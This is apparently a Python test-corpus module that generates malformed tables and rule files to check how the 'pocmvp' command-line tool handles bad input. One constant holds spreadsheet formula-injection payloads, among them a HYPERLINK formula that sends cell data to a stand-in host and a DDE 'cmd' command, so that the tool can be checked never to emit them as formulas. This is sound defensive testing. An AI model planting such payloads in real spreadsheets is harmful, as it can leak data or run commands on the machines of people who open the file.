"""The bad-input corpus: tables and rule files a learner's own data could be, each a case.

Every case writes one data file (and, for the report, the approved ``rule.json``) into a
folder and says what ``pocmvp rule`` is asked. The corpus test runs each through
``pocmvp rule`` and ``pocmvp report``: each must end in a result with every row accounted
for, or in one line on stderr and exit code 2.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pandas as pd

from pocmvp.toolkit import rulefile
from pocmvp.toolkit.rule import Rule

MONTH = "2025-10"
TARGET, ID, TIME, SENSOR, SPEED, NOTE = "defect", "id", "made", "temp", "speed", "note"
PAYLOADS = ('=HYPERLINK("http://x.example/?"&A2)', "=cmd|' /C calc'!A0", "@SUM(1+1)")
"""Formula-looking texts; none may ever become a formula in a written workbook."""


def base(n: int = 360, seed: int = 3) -> pd.DataFrame:
    """Three months of rows: an id, a time, a sensor that drives the target, a bystander."""
    rng = np.random.default_rng(seed)
    temp = rng.normal(700, 10, n).round(1)
    defect = (temp > 712) ^ (rng.random(n) < 0.02)
    return pd.DataFrame(
        {
            ID: [f"r{i:05d}" for i in range(n)],
            TIME: pd.date_range("2025-09-01", "2025-11-30 23:00", periods=n).strftime(
                "%Y-%m-%d %H:%M"
            ),
            SENSOR: temp,
            SPEED: rng.normal(50, 5, n).round(1),
            NOTE: np.where(rng.random(n) < 0.5, "ok", "checked"),
            TARGET: np.where(defect, "yes", "no"),
        }
    )


@dataclass
class Case:
    """One input: its file, what ``pocmvp rule`` is asked, and the approved rule file."""

    name: str
    write: Callable[[Path], Path]
    """Writes the data file into a folder and returns its path."""
    rows: int | None = None
    """The table's rows, when a result must account for each of them."""
    rule_args: dict = field(default_factory=dict)
    """Changes to ``pocmvp rule``'s options (a value of None drops the option)."""
    rule_file: Callable[[Path], Path] | None = None
    """Writes the report's rule.json (default: :func:`approved`)."""
    patch_excel_limit: int | None = None
    """Excel's row limit for this case (a small one keeps the case cheap)."""


def approved(folder: Path, **changes) -> Path:
    """The report's approved rule: temp above 712, 10 % capacity."""
    fields = {
        "rule": Rule.of((SENSOR, ">", 712.0)),
        "capacity": 0.1,
        "target": TARGET,
        "id": ID,
        "time": TIME,
        **changes,
    }
    return rulefile.RuleFile(**fields).save(folder / "rule.json")


def csv(frame: pd.DataFrame, name: str = "table.csv", **options) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        frame.to_csv(path, index=False, **options)
        return path

    return write


def raw(content: bytes, name: str = "table.csv") -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content)
        return path

    return write


def edited_rule(edit: Callable[[dict], object]) -> Callable[[Path], Path]:
    """The approved rule.json, hand-edited by ``edit`` (on its JSON) or truncated."""

    def write(folder: Path) -> Path:
        path = approved(folder)
        stored = json.loads(path.read_text(encoding="utf-8"))
        edited = edit(stored)
        text = edited if isinstance(edited, str) else json.dumps(stored, indent=2)
        path.write_text(text, encoding="utf-8")
        return path

    return write


def _with(frame: pd.DataFrame, column: str, rows, value) -> pd.DataFrame:
    frame = frame.copy()
    frame[column] = frame[column].astype(object)
    frame.loc[rows, column] = value
    return frame


def _xlsx(sheets: dict[str, pd.DataFrame]) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / "table.xlsx"
        with pd.ExcelWriter(path) as writer:
            for sheet, frame in sheets.items():
                frame.to_excel(writer, sheet_name=sheet, index=False)
        return path

    return write


def _parquet(frame: pd.DataFrame) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / "table.parquet"
        frame.to_parquet(path)
        return path

    return write


def _gzip(frame: pd.DataFrame, name: str) -> Callable[[Path], Path]:
    return raw(gzip.compress(frame.to_csv(index=False).encode(), mtime=0), name)


def cases() -> list[Case]:
    """Every case of the corpus."""
    t = base()
    n = len(t)
    spaced = t.rename(columns={SENSOR: f" {SENSOR} ", SPEED: f"{SPEED} "})
    payload_names = t.rename(columns={NOTE: PAYLOADS[1], SPEED: PAYLOADS[2]})
    mixed_times = t.copy()
    mixed_times[TIME] = [
        pd.Timestamp(v).strftime("%d/%m/%Y %H:%M" if i % 2 else "%Y-%m-%dT%H:%M+02:00")
        for i, v in enumerate(t[TIME])
    ]
    duplicated_header = t.copy()
    duplicated_header.insert(4, "temp_copy", t[SPEED])
    header = ",".join([ID, TIME, SENSOR, SPEED, SENSOR, NOTE, TARGET])  # 'temp' twice
    dup_text = duplicated_header.to_csv(index=False).split("\n", 1)[1]
    return [
        Case("plain", csv(t), n),
        Case("parquet", _parquet(t), n),
        Case("xlsx", _xlsx({"Sheet1": t}), n),
        Case("xlsx, data on the second sheet", _xlsx({"About": t[[NOTE]].head(2), "Data": t}), n),
        Case("empty file", raw(b"")),
        Case("only blanks", raw(b"  \n\n")),
        Case("header only", csv(t.head(0))),
        Case("one column", csv(t[[TARGET]]), n),
        Case("no target column", csv(t.drop(columns=TARGET))),
        Case("blank target values", csv(_with(t, TARGET, [3, 40], np.nan))),
        Case("odd target values", csv(_with(t, TARGET, [5], "maybe"))),
        Case("target as TRUE/FALSE", csv(t.assign(**{TARGET: t[TARGET].eq("yes")})), n),
        Case("all-1 target", csv(t.assign(**{TARGET: "yes"}))),
        Case("all-0 target", csv(t.assign(**{TARGET: "no"}))),
        Case("Windows-1252", csv(t.assign(**{NOTE: "geprüft"}), encoding="cp1252"), n),
        Case("UTF-8 with BOM", csv(t, encoding="utf-8-sig"), n),
        Case("gzip, .csv.gz", _gzip(t, "table.csv.gz"), n),
        Case("gzip named .csv", _gzip(t, "table.csv"), n),
        Case("binary garbage", raw(b"\xff\xfe\x00\x01 not a table \x00\xff" * 20)),
        Case("semicolons", csv(t, sep=";"), n),
        Case("semicolons and decimal commas", csv(t, sep=";", decimal=","), n),
        Case("duplicate headers", raw((header + "\n" + dup_text).encode()), n),
        Case("duplicate ids", csv(_with(t, ID, [10, 11, 12], "r00010")), n),
        Case("missing ids", csv(_with(t, ID, [7, 200], np.nan)), n),
        Case(
            "formulas in cells",
            csv(_with(_with(t, SENSOR, [1], PAYLOADS[0]), NOTE, [2, 200], PAYLOADS[2])),
            n,
        ),
        Case("formula-looking column names", csv(payload_names), n),
        Case("all-NaN column", csv(t.assign(empty=np.nan)), n),
        Case(
            "all-NaN column named", csv(t.assign(empty=np.nan)), n, {"columns": f"empty,{SENSOR}"}
        ),
        Case(
            "inf and 1e400 cells", csv(_with(t, SENSOR, [4, 200, 201], ["inf", "1e400", "-inf"])), n
        ),
        Case("text in the sensor", csv(_with(t, SENSOR, [9, 210], "kaputt")), n),
        Case("missing sensor values", csv(_with(t, SENSOR, list(range(0, n, 7)), np.nan)), n),
        Case("names with surrounding spaces", csv(spaced), n),
        Case("names with spaces, typed without", csv(spaced), n, {"columns": f"{SENSOR},{SPEED}"}),
        Case("mixed slash and ISO times", csv(mixed_times), n),
        Case("unreadable times", csv(_with(t, TIME, [3, 220], "soon")), n),
        Case("numeric time column", csv(t.assign(**{TIME: np.arange(n)}))),
        Case("ragged rows", raw((t.head(50).to_csv(index=False) + "1,2,3,4,5,6,7,8\n").encode())),
        Case("capacity under one row", csv(t), n, {"capacity": "0.0001"}),
        Case("over Excel's row limit", csv(t), n, patch_excel_limit=50),
        Case("truncated rule.json", csv(t), n, rule_file=edited_rule(lambda r: json.dumps(r)[:40])),
        Case(
            "rule.json with a column the table lacks",
            csv(t),
            n,
            rule_file=edited_rule(lambda r: r["conditions"][0].update(column="nonsense")),
        ),
        Case(
            "rule.json with a bad operator",
            csv(t),
            n,
            rule_file=edited_rule(lambda r: r["conditions"][0].update(operator="=>")),
        ),
        Case(
            "rule.json with capacity 5",
            csv(t),
            n,
            rule_file=edited_rule(lambda r: r.update(capacity=5)),
        ),
        Case("rule.json as a list", csv(t), n, rule_file=edited_rule(lambda r: "[]")),
        Case("rule.json empty", csv(t), n, rule_file=edited_rule(lambda r: "")),
    ]
